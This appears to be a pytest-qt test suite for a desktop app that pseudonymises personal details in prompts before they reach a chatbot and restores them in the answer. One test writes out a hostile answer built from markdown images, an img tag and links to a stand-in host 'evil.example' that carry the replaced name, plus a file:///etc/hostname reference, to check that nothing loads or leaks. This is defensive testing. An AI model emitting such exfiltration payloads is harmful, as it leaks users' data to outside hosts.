from __future__ import annotations

import pytest
from PySide6.QtCore import QMimeData, Qt
from PySide6.QtGui import QDesktopServices, QGuiApplication
from PySide6.QtWidgets import QApplication, QWidget

from app.look.example import EXAMPLE
from app.look.theme import DARK, LIGHT
from engine.providers.presets import PAGES


def press(qtbot, widget, key, *modifiers):
    held = Qt.KeyboardModifier.NoModifier
    for modifier in modifiers:
        held |= modifier
    qtbot.keyClick(widget, key, held)


CONTROL = Qt.KeyboardModifier.ControlModifier
SHIFT = Qt.KeyboardModifier.ShiftModifier


def test_the_empty_window_invites(window):
    assert window.prompt.hint.isVisible()
    assert window.preview.empty.isVisible()
    assert window.answer.empty.isVisible()
    assert not window.top.send.isEnabled()
    assert window.strip.quality.value.text() == "—"
    assert window.strip.leakage.value.text() == "—"


def test_the_example_can_be_reviewed_and_sent(qtbot, window, engine):
    with qtbot.waitSignal(window.session.scored, timeout=10_000):
        window.prompt.example.click()
    assert window.prompt.text == EXAMPLE
    shown = window.preview.edit.raw_text()
    assert shown == window.session.review.sanitized.text
    assert "Siobhán" not in shown
    assert window.top.send.isEnabled()
    with qtbot.waitSignal(window.session.answers.spent, timeout=10_000):
        window.top.send.click()
    assert engine.outgoing.turns[-1].text == shown
    assert "Siobhán O'Leary" in window.answer.text.toPlainText()
    assert "1 restored" in window.answer.side.text()


def test_the_preview_greys_and_nothing_can_be_sent_while_typing(qtbot, window, reviewed):
    reviewed("Ask Byrne.")
    window.prompt.edit.insertPlainText("Please ")
    assert not window.top.send.isEnabled()
    assert not window.top.copy.isEnabled()
    assert window.preview.edit.raw_text() == window.session.review.sanitized.text
    with qtbot.waitSignal(window.session.scored, timeout=10_000):
        pass
    assert window.top.send.isEnabled()
    assert window.preview.edit.raw_text().startswith("Please ")


def test_marks_follow_the_words_while_typing(window, reviewed):
    reviewed("Ask Byrne.")
    before = window.prompt.edit._paints[-1]
    window.prompt.edit.moveCursor(window.prompt.edit.textCursor().MoveOperation.Start)
    window.prompt.edit.insertPlainText("😀 ")
    after = window.prompt.edit._paints[-1]
    assert (after.start, after.end) == (before.start + 3, before.end + 3)


def test_painting_costs_no_undo_step(window, reviewed):
    document = window.prompt.edit.document()
    reviewed("Ask Byrne.")
    steps = document.availableUndoSteps()
    window.top.heatmap.picked.emit("importance")
    window.top.heatmap.picked.emit("off")
    window.grab()
    assert document.availableUndoSteps() == steps
    assert window.settings.heatmap == "off"


def test_keyboard_only_walk(qtbot, window, reviewed):
    reviewed("Ask Byrne and Siobhán O'Leary in Galway.")
    window.prompt.edit.setFocus()
    press(qtbot, window.prompt.edit, Qt.Key.Key_F8)
    card = window.card
    assert card.isVisible()
    assert card.finding.value == "Byrne"
    with qtbot.waitSignal(window.session.reviewed, timeout=10_000):
        press(qtbot, QApplication.focusWidget(), Qt.Key.Key_K)
    assert "Byrne" in window.preview.edit.raw_text()
    assert card.keep.isChecked()
    with qtbot.waitSignal(window.session.reviewed, timeout=10_000):
        press(qtbot, card, Qt.Key.Key_P)
    assert "Byrne" not in window.preview.edit.raw_text()
    press(qtbot, window, Qt.Key.Key_F8)
    assert card.finding.value == "Siobhán O'Leary"
    press(qtbot, window, Qt.Key.Key_F8, SHIFT)
    assert card.finding.value == "Byrne"
    press(qtbot, card, Qt.Key.Key_Escape)
    assert not card.isVisible()
    assert window.prompt.edit.hasFocus()
    with qtbot.waitSignal(window.session.answers.spent, timeout=10_000):
        press(qtbot, window.prompt.edit, Qt.Key.Key_Return, CONTROL)
    assert window.answer.text.toPlainText()


def test_undo_covers_typing_and_decisions_in_their_order(qtbot, window, reviewed):
    reviewed("Ask Byrne.")
    window.prompt.edit.setFocus()
    window.review_controller.step(1)
    with qtbot.waitSignal(window.session.reviewed, timeout=10_000):
        window.card.keepWanted.emit()
    window.card.dismiss()
    with qtbot.waitSignal(window.session.scored, timeout=10_000):
        window.prompt.edit.insertPlainText("Now ")
    with qtbot.waitSignal(window.session.scored, timeout=10_000):
        press(qtbot, window.prompt.edit, Qt.Key.Key_Z, CONTROL)
    assert window.prompt.text == "Ask Byrne."
    assert "Byrne" in window.preview.edit.raw_text()
    with qtbot.waitSignal(window.session.reviewed, timeout=10_000):
        press(qtbot, window.prompt.edit, Qt.Key.Key_Z, CONTROL)
    assert "Byrne" not in window.preview.edit.raw_text()
    with qtbot.waitSignal(window.session.reviewed, timeout=10_000):
        press(qtbot, window.prompt.edit, Qt.Key.Key_Z, CONTROL, SHIFT)
    assert "Byrne" in window.preview.edit.raw_text()


def test_selecting_words_offers_to_protect_them(qtbot, window, reviewed):
    reviewed("The blue lagoon project with Byrne.")
    cursor = window.prompt.edit.textCursor()
    cursor.setPosition(4)
    cursor.setPosition(15, cursor.MoveMode.KeepAnchor)
    window.prompt.edit.setTextCursor(cursor)
    assert window.prompt._offer.isVisible()
    with qtbot.waitSignal(window.session.reviewed, timeout=10_000):
        window.prompt._offer.click()
    assert "blue lagoon" not in window.preview.edit.raw_text()


def test_the_rail_lists_and_switches(qtbot, window, reviewed):
    reviewed("Ask Byrne and Ana in Galway about Marfan syndrome.")
    items = {item.title: item for item in window.rail.types.items.items}
    assert items["Names"].figure == "2"
    assert items["Names"].state == "on"
    assert items["Health"].state == "off"
    window.rail.types.setFocus()
    window.rail.types.setCurrentIndex(window.rail.types.items.index(0))
    with qtbot.waitSignal(window.session.reviewed, timeout=10_000):
        press(qtbot, window.rail.types, Qt.Key.Key_Space)
    assert "Byrne and Ana" in window.preview.edit.raw_text()


def test_own_replacement_and_type(qtbot, window, reviewed):
    reviewed("Ask Byrne.")
    window.review_controller.step(1)
    window.card.replacement.setText("Keane 😀")
    with qtbot.waitSignal(window.session.reviewed, timeout=10_000):
        press(qtbot, window.card.replacement, Qt.Key.Key_Return)
    assert window.preview.edit.raw_text() == "Ask Keane 😀."


def test_rules_hold_and_can_be_undone(qtbot, window, reviewed):
    reviewed("Ask Byrne.")
    qtbot.waitUntil(lambda: window.dialog_controller._rules is not None)
    window.review_controller.step(1)
    with qtbot.waitSignal(window.session.reviewed, timeout=10_000):
        window.card.alwaysKeepWanted.emit()
    assert window.dialog_controller._rules.keep == {"Byrne"}
    with qtbot.waitSignal(window.session.reviewed, timeout=10_000):
        window.review_controller.undo()
    assert window.dialog_controller._rules.keep == frozenset()


def test_copy_and_open_then_paste_restores(qtbot, window, reviewed, monkeypatch):
    opened = []
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(url.toString()))
    shown = reviewed("Ask Byrne.")
    window.top.pageChosen.emit("https://claude.ai/new")
    assert QGuiApplication.clipboard().text() == shown
    assert opened == ["https://claude.ai/new"]
    name = window.session.review.sanitized.replacements[0].replacement
    QGuiApplication.clipboard().setText(f"I asked {name}.")
    window.answer.paste_button.click()
    assert window.answer.text.toPlainText() == "I asked Byrne."


def test_nothing_opens_without_a_valid_preview(window, monkeypatch):
    opened = []
    monkeypatch.setattr(QDesktopServices, "openUrl", opened.append)
    window.top.pageChosen.emit("https://claude.ai/new")
    window.send()
    assert opened == []
    assert window.session.answers.exchanges == []


def test_without_a_chatbot_the_answer_pane_says_so(qtbot, window, settings, reviewed):
    settings.providers = ()
    reviewed("Ask Byrne.")
    window.send()
    assert "No chatbot" in window.answer.notice.words.text()
    assert window.session.answers.exchanges == []


def test_a_narrow_window_has_two_panes_and_a_tab(qtbot, window):
    window.resize(1024, 700)
    qtbot.waitUntil(window.tabs.isVisible)
    assert window.preview.isVisible()
    assert not window.answer.isVisible()
    window.tabs.setCurrentIndex(1)
    assert window.answer.isVisible()
    assert not window.preview.isVisible()
    window.resize(1440, 900)
    qtbot.waitUntil(lambda: not window.tabs.isVisible())
    assert window.preview.isVisible()
    assert window.answer.isVisible()


def test_dark_and_light_and_sizes(window, settings, reviewed):
    reviewed("Ask Byrne.")
    settings.theme = "dark"
    assert window.look.palette is DARK
    window.grab()
    settings.theme = "light"
    settings.reading_size = 20
    assert window.look.palette is LIGHT
    assert window.prompt.edit.font().pixelSize() == 20
    window.grab()


def test_the_shape_is_remembered_and_no_text(qtbot, window, settings, reviewed):
    reviewed("Ask Zephyrine about Byrne.")
    window.close()
    stored = settings.path.read_text(encoding="utf-8")
    assert "geometry" in stored
    assert "Byrne" not in stored
    assert "Zephyrine" not in stored


def test_everything_that_takes_focus_has_a_name(window):
    nameless = [
        widget
        for widget in window.findChildren(QWidget)
        if widget.focusPolicy() & Qt.FocusPolicy.TabFocus
        and not widget.objectName().startswith("qt_")
        and not (widget.accessibleName() or getattr(widget, "text", lambda: "")())
    ]
    assert not nameless


NASTY = [
    "\0", "a\0b Byrne", "\ud800", "x\udfff Byrne", "😀" * 50 + " Byrne", "שלום Byrne עולם",
    "مرحبا 41-year-old", "\u2028line\u2029Byrne", "e\u0301 Byrne", "\ufdd0\ufdd1\ufdd2 Byrne",
    "\r\n\r\n Byrne \r", "\t\tByrne", "\u00a0Byrne\u00a0", "<b>Byrne</b>&amp;", "\ue000" * 9,
]  # fmt: skip


@pytest.mark.parametrize("text", NASTY, ids=lambda text: ascii(text)[:24])
def test_bad_input_in_the_window(qtbot, window, text):
    data = QMimeData()
    data.setText(text)
    with qtbot.waitSignal(window.session.reviewed, timeout=10_000):
        window.prompt.edit.insertFromMimeData(data)
        window.session.analyse_now()
    window.grab()
    if "Byrne" in text:
        assert "Byrne" not in window.preview.edit.raw_text()
        window.review_controller.step(1)
        assert window.card.finding.value == "Byrne"
    assert window.prompt.edit.raw_text() == window.session.text


def test_typed_half_characters_can_be_repaired(qtbot, window):
    with qtbot.waitSignal(window.session.problem, timeout=10_000):
        window.session.set_text("Ask \ud83d Byrne")
        window.session.analyse_now()
    assert window.prompt.notice.isVisible()
    with qtbot.waitSignal(window.session.scored, timeout=10_000):
        window.prompt.notice.button.click()
    assert "\ufffd" in window.prompt.text
    assert not window.prompt.notice.isVisible()


def test_a_very_long_text_stays_usable(qtbot, window):
    text = "Please ask Byrne in Galway about it. " * 6000
    with qtbot.waitSignal(window.session.reviewed, timeout=60_000):
        window.prompt.set_text(text)
        window.session.analyse_now()
    window.grab()
    assert "Byrne" not in window.preview.edit.raw_text()
    assert window.prompt.notice.isVisible()


def test_a_hostile_answer_loads_nothing_and_leaks_nothing(qtbot, window, reviewed, engine):
    reviewed("Ask Byrne.")
    name = window.session.review.sanitized.replacements[0].replacement
    engine.answer = (
        "![x](https://evil.example/?q={0}) <img src='https://evil.example/{0}'> "
        "[click](https://evil.example/?q={0}) ![y](file:///etc/hostname) {0} \ufdd20\ufdd3 **{0}**"
    )
    with qtbot.waitSignal(window.session.answers.spent, timeout=10_000):
        window.send()
    text = window.answer.text
    html = text.document().toHtml()
    assert "evil.example/?q=Byrne" not in html
    assert "<img" not in html
    assert text.toPlainText().count("Byrne") >= 2
    assert not text.openLinks()
    assert not text.openExternalLinks()
    assert text.loadResource(2, "file:///etc/hostname") is None
    assert name in html


def test_follow_up_and_new_conversation(qtbot, window, reviewed):
    reviewed("Ask Byrne.")
    with qtbot.waitSignal(window.session.answers.spent, timeout=10_000):
        window.send()
    window.answer.follow_up.click()
    assert window.prompt.text == ""
    assert window.answer.text.toPlainText()
    window.answer.new_button.click()
    assert window.answer.empty.isVisible()
    assert window.session.answers.exchanges == []
    assert window.prompt.edit.document().availableUndoSteps() == 0


def test_shortcuts_and_settings_open(qtbot, window):
    window.open_shortcuts()
    window.dialog_controller.open_settings("providers")
    assert window.dialog_controller._dialog.isVisible()
    window.dialog_controller._dialog.close()


def test_settings_of_the_mechanisms_are_followed_and_the_strength_says_what_holds(
    qtbot, window, reviewed, engine
):
    reviewed("Ask the 41-year-old Byrne.")
    assert "±4 years" in window.top.strength.toolTip()
    with qtbot.waitSignal(window.session.reviewed, timeout=10_000):
        window.settings.noise = "exponential"
    assert "±5 years" in window.top.strength.toolTip()
    window.settings.level, window.settings.words = 3, "santext"
    window.settings.alike_names = False
    options = window.session.choices.options()
    assert (options.noise, options.level, options.words) == ("exponential", 3, "santext")
    assert options.alike_names is False
    assert engine.calls.count("review") == 1


def test_a_text_in_another_language_is_told_once(qtbot, window, reviewed):
    reviewed("My name is Siobhán O'Leary.")
    assert not window.prompt.foreign_notice.isVisible()
    reviewed("Je m’appelle Siobhán O'Leary.")
    assert "neither English nor German" in window.prompt.foreign_notice.words.text()
    assert window.prompt.foreign_notice.isVisible()
    assert window.top.send.isEnabled()
    window.prompt.foreign_notice.button.click()
    reviewed("Je m’appelle Siobhán O'Leary de Galway.")
    assert not window.prompt.foreign_notice.isVisible()
    reviewed("My name is Siobhán O'Leary.")
    reviewed("Je m’appelle Byrne.")
    assert window.prompt.foreign_notice.isVisible()


def test_another_text_clears_the_lists_at_once(qtbot, window, reviewed):
    reviewed("Byrne of Cork, +353 91 555 0142, has Marfan syndrome.")
    rail = window.rail
    assert rail.types.items.items
    window.prompt.set_text("The invoice of 4 April 2026 is for Ana.")
    assert rail.types.items.items == ()
    assert rail.calls.items.items == ()
    assert rail.no_types.isVisible()
    assert rail.no_calls.text() == "Weighing the words…"
    with qtbot.waitSignal(window.session.scored, timeout=10_000):
        window.session.analyse_now()
    assert {item.key for item in rail.types.items.items} == {"DATE_TIME", "PERSON"}


def test_a_change_in_a_place_leaves_the_lists(window, reviewed):
    reviewed("Byrne of Cork, +353 91 555 0142, has Marfan syndrome.")
    before = window.rail.types.items.items
    window.prompt.set_text("Byrne of Cork, +353 91 555 0142, has a Marfan syndrome.")
    assert window.rail.types.items.items == before


def test_every_page_is_offered(window):
    offered = [action.text() for action in window.top.copy.menu().actions()]
    assert [page.name for page in PAGES if f"Copy and open {page.name}" not in offered] == []
